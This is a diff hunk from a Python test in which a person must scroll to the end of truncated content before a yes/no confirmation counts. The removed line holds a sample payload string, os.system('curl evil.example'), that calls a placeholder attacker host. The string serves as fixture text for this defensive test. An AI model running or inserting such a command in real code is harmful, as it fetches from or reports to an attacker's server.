@@ -184,7 +184,7 @@ def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward):
     at.type("s")
     at.see("q leaves")
     at.type("G")
-    at.see("os.system('curl evil.example')")
+    at.see(lambda text: "q leaves" in text and " line 1 of" not in text)
     at.type("q")
     at.see("[y]es / [n]o")
     assert not (leeward.workspace / "long.py").exists()
